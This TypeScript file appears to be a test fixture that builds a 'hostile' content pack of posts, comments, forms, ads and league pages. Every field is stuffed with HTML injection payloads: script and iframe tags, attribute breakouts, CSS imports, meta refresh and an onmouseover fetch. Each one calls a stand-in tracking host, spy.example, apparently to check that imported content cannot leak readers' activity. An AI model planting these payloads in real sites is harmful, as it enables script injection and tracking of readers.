import type { ContentPack } from './content-pack.ts';

/** A host that would learn who reads what, if a page requested anything from it. */
const SPY = 'https://spy.example';

/** Every way for markup to load something, except pictures, which the import refuses. */
const markup = [
  `<p style="background:url(${SPY}/style)">One</p><style>@import "${SPY}/import.css"; p { background: url(${SPY}/rule) }</style>`,
  `<link rel="stylesheet" href="${SPY}/a.css"><link rel="preload" as="fetch" href="${SPY}/b"><link rel="dns-prefetch" href="${SPY}">`,
  `<meta http-equiv="refresh" content="0;url=${SPY}/refresh"><base href="${SPY}/"><a href="relative">Two</a>`,
  `<video src="${SPY}/a.mp4" poster="${SPY}/a.jpg" autoplay></video><audio src="${SPY}/a.mp3" autoplay></audio>`,
  `<iframe src="${SPY}/frame"></iframe><object data="${SPY}/object"></object><embed src="${SPY}/embed">`,
  `<input type="image" src="${SPY}/input"><table background="${SPY}/table"><tr><td background="${SPY}/cell">Three</td></tr></table>`,
  `<svg><use href="${SPY}/use.svg#a"></use><script href="${SPY}/a.js"></script></svg><script src="${SPY}/b.js"></script>`,
  `<a href="${SPY}/link" ping="${SPY}/ping" onmouseover="fetch('${SPY}/hover')">Four</a>`,
];
const html = markup.join('\n');

const topic = {
  name: 'Hostile',
  description: html,
  buttons: [{ link: `${SPY}/button`, label: 'Button' }],
  ad: 'hostile-ads',
};

const post = (slug: string, more: object) => ({
  slug,
  name: `Hostile ${slug}`,
  description: html,
  credits: 'Credits',
  credits_url: `${SPY}/credits`,
  action_url: `${SPY}/action`,
  action_btn_1: 'Book',
  tags: ['home', 'hostile'],
  categories: ['hostile'],
  published_at: '-1m',
  ...more,
});

/** Content with which an editor might make readers' browsers request another host. */
export const hostilePack: ContentPack = {
  'ad-carousels': [
    { slug: 'hostile-ads', img1: 'media/ad-640x360.png', url1: `${SPY}/ad`, alt1: `"><img src=${SPY}/alt>` },
  ],
  tags: [
    { slug: 'hostile', tag_cloud: 'on', ...topic },
    { slug: 'home', name: 'Home' },
  ],
  categories: [{ slug: 'hostile', ...topic }],
  posts: [
    post('hostile-picture', { media: 'media/own-640x480.png', alt: `"><img src=${SPY}/alt>` }),
    post('hostile-clip', { type: 'video', media: 'media/clip.mp4', thumbnail: 'media/own-640x480.png' }),
    post('hostile-youtube', { type: 'youtube', media: 'https://www.youtube.com/watch?v=YE7VzlLtp-4' }),
    post('hostile-frame', { type: 'embed', media: `<iframe src="${SPY}/embed"></iframe>` }),
    post('hostile-script', {
      type: 'embed',
      media: `<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/reel/Cx4MdnBlr01/"></blockquote><script async src="${SPY}/embed.js"></script>`,
    }),
  ],
  comments: [{ post: 'hostile-picture', name: 'Ravi', comment: `<img src=${SPY}/comment>`, created_at: '-1m' }],
  notifications: [{ slug: 'hostile', content: html, created_at: '-1m' }],
  leagues: [{ slug: 'hostile-league', name: 'Hostile league', details: html, created_at: '-1m' }],
  'league-social': [{ slug: 'hostile-social', league: 'hostile-league', content: html, published_at: '-1m' }],
  'about-league': { name: 'About', content: html },
  forms: [
    {
      slug: 'hostile-form',
      title: 'Hostile form',
      description: html,
      fields: [{ name: 'who', label: `Name <img src=${SPY}/label>`, type: 'text' }],
    },
  ],
};
